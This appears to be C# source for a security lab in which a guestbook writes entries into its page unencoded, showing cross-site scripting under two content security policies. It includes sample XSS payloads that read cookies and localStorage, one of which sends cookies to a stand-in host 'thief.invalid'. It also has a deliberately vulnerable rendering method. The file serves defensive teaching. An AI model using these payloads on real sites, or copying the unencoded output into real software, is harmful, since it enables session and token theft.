using NetEscapades.AspNetCore.SecurityHeaders;
using static BlazorJwt.Labs.KeepSafe.LabDocument;

namespace BlazorJwt.Labs.KeepSafe.Guestbook;

/// <summary>
/// The pages of the lab "Injected markup". Two write the entry unencoded: one under a policy with a hole, one under the app's own.
/// </summary>
internal static class GuestbookDocuments
{
    private const string Script = """<script src="/labs/guestbook.js" type="module"></script>""";

    private const string Sources = """<p class="sources">CSP Level 3 §5.1 · OWASP Cross Site Scripting Prevention Cheat Sheet</p>""";

    private const string Loot = """<p id="loot" class="token big-token" role="status">Nothing yet.</p>""";

    private static readonly (string Name, string Entry)[] Offers =
    [
        ("A script that reads the cookie", "<script>loot.textContent = document.cookie</script>"),
        ("A picture that fails, and reads localStorage and the cookie",
            """<img src="data:," alt="" onerror="loot.textContent = localStorage.getItem('guestbook-token') + ' ' + document.cookie">"""),
        ("A script that tries to send away what it read", """
            <script>fetch('https://thief.invalid/?' + document.cookie)
              .catch(() => { loot.textContent = 'The policy let nothing out. The script still read: ' + document.cookie })</script>
            """),
    ];

    /// <summary>On the lesson's host: where this leads.</summary>
    public static IResult Begin(string host, string address) => Page(
        "Injected markup",
        "A guestbook that writes every entry into its page unencoded. You write a script, and see what it can read.",
        Card("Before you go", $"""
            <p>The guestbook is at <strong>{Encoded(host)}</strong>, which is another site to your browser, so your sign-in is not sent
            there. Only you see what you write, and the tokens there are decoys: this app’s API rejects them.</p>
            {Actions(Link(address, "Go to the guestbook", primary: true))}
            """));

    /// <summary>Where the visitor writes. It shows the entry as a page should: as text.</summary>
    public static IResult Write(GuestbookRun run, DecoyTokens decoys) => Page(
        "Guestbook",
        "Write an entry. Then look at it in two pages that both forgot to encode it.",
        $"""
        {Card("Write", $"""
            {Actions(Offers.Select(offer => EntryButton(offer.Entry, offer.Name)))}
            <form method="post" class="stack"><div class="fields">
            <label for="entry">Or your own, up to {GuestbookRun.LongestEntry} characters</label>
            <textarea id="entry" name="entry" rows="4" maxlength="{GuestbookRun.LongestEntry}" spellcheck="false"></textarea>
            </div>{Actions("<button class=\"primary\">Write the entry</button>")}</form>
            """)}
        {Card("Your entry", run.Entry is null ? "<p>Nothing yet.</p>" : $"""
            <p>Here the entry is encoded, so it is only text. This is the fix.</p>
            <pre class="big-token wide" tabindex="0" aria-label="Your entry"><code>{Encoded(run.Entry)}</code></pre>
            {EntryButton("", "Delete the entry")}
            """)}
        {Card("Look at it", """
            <div class="actions">
            <a class="button primary" href="/labs/guestbook/hole" target="_blank" rel="noopener">Open the page with the hole</a>
            <a class="button" href="/labs/guestbook/strict" target="_blank" rel="noopener">Open the same under the app’s policy</a>
            </div>
            <p>Each opens in its own tab.</p>
            <p id="brought" role="status"></p>
            """)}
        <p><a href="{Encoded(run.Origin)}/keep-it-safe">To the lesson</a></p>
        """,
        $"{DecoyNotes(decoys)}{Script}");

    /// <summary>Broken on purpose: the entry becomes markup, and inline scripts may run.</summary>
    public static IResult Hole(GuestbookRun run, HttpContext context) => Page(
        "The page with the hole",
        "It wrote your entry into the page unencoded, and its policy allows inline scripts.",
        $"""
        {Card("Loot", $"""
            <p>The entry’s script shows here what it could read. These are decoys only.</p>{Loot}<p id="seen" role="status"></p>
            """)}
        {Card("What contains it", """
            <p>Its content security policy allows no connection, no form, no frame, no other tab, only images from within the page, and no
            script except your entry’s. It stops neither the name lookup of a frame nor WebRTC. The header <code>Connection-Allowlist</code>
            stops those too: in a browser that supports it, such as a new Chromium (Chrome, Edge), no request leaves this page. In others a
            script of this page removes frames and WebRTC, and a clever entry can get around a script. That is why the tokens here are
            decoys. Close this tab to go back.</p>
            """)}
        {Entry(run)}
        """,
        $"{EntryScripts.Policy(run.Markup)}<script>{GuestbookWatch.Script}</script>",
        GuestbookWatch.Style(context.GetNonce()));

    /// <summary>The same mistake under the app's own policy: the entry becomes markup, and its script does not run.</summary>
    public static IResult Strict(GuestbookRun run) => Page(
        "The same under the app’s policy",
        "It made the same mistake with the same entry. Its policy is that of every page of this app: no inline script.",
        $"""
        {Card("Loot", Loot)}
        {Card("What your browser reported", $"""
            <ul id="violations" role="status"></ul>
            <p id="outcome" role="status">No violation yet.</p>
            <p>The policy is the second line of defence. The first is to encode what a visitor wrote, as Blazor does with every
            <code>@text</code>.</p>
            {Sources}
            """)}
        {Entry(run)}
        """,
        """<script src="/labs/guestbook-report.js"></script>""" + Script);

    // Unencoded: this is the hole.
    private static string Entry(GuestbookRun run) => Card("The entry", run.Entry is null
        ? "<p>Nothing is written yet.</p>"
        : $"<p>It is markup here. A script shows nothing of itself.</p><div>{run.Markup}</div>");

    private static string EntryButton(string entry, string text) =>
        $"""<form method="post"><input type="hidden" name="entry" value="{Encoded(entry)}"><button>{Encoded(text)}</button></form>""";

    private static string DecoyNotes(DecoyTokens decoys) => string.Concat(
        from decoy in GuestbookRun.Decoys
        where !GuestbookRun.HttpOnlyDecoys.ContainsKey(decoy.Key)
        select $"<meta name=\"decoy\" data-name=\"{Encoded(decoy.Value)}\" content=\"{Encoded(decoys.Make(decoy.Key))}\">");
}
